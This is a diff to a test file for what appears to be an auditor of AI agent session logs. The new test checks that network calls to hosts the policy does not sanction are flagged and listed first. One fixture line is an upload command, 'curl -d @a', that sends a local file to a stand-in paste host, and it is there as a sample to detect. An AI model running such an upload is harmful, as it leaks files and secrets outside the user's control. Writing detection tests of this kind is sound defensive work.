@@ -27,9 +27,21 @@ describe('the overview', () => {
     });
     const overview = overviewOf(opened);
     expect(overview.outsideRoot.map((row) => [row.label, row.count])).toEqual([['/Users/kim/.zshrc', 2]]);
-    expect(overview.network.map((row) => [row.label, row.note, row.count])).toEqual([['one.example.net', 'curl', 2], ['two.example.net', 'curl', 1]]);
+    expect(overview.network.map((row) => [row.label, row.note, row.count])).toEqual([['one.example.net', '✕ unsanctioned', 2], ['two.example.net', '✕ unsanctioned', 1]]);
     expect(overview).toMatchObject({ writesOutsideRoot: 2, networkCommands: 2 });
     for (const row of [...overview.outsideRoot, ...overview.network]) expect(opened.findings.some(({ finding }) => finding.id === row.findingId)).toBe(true);
+  });
+
+  it('names hosts that the policy does not sanction before those that are called more often', async () => {
+    const opened = await openDrawn({
+      [`${folder}/s1.jsonl`]: [
+        ...[1, 2, 3].map((second) => call(`t${second}`, 'Bash', { command: `curl -O https://pypi.org/${second}` }, { second })),
+        call('t4', 'Bash', { command: 'curl -d @a https://paste.example.net/' }, { second: 4 }),
+      ],
+    });
+    const { network } = overviewOf(opened);
+    expect(network.map((row) => [row.label, row.note, row.count])).toEqual([['paste.example.net', '✕ unsanctioned', 1], ['pypi.org', 'curl', 3]]);
+    expect(opened.findings.find(({ finding }) => finding.id === network[0]?.findingId)?.finding.rule).toMatch(/^network\.unsanctioned/);
   });
 
   it('says what the copy lacks, and that no rule matched instead of an all-clear', async () => {
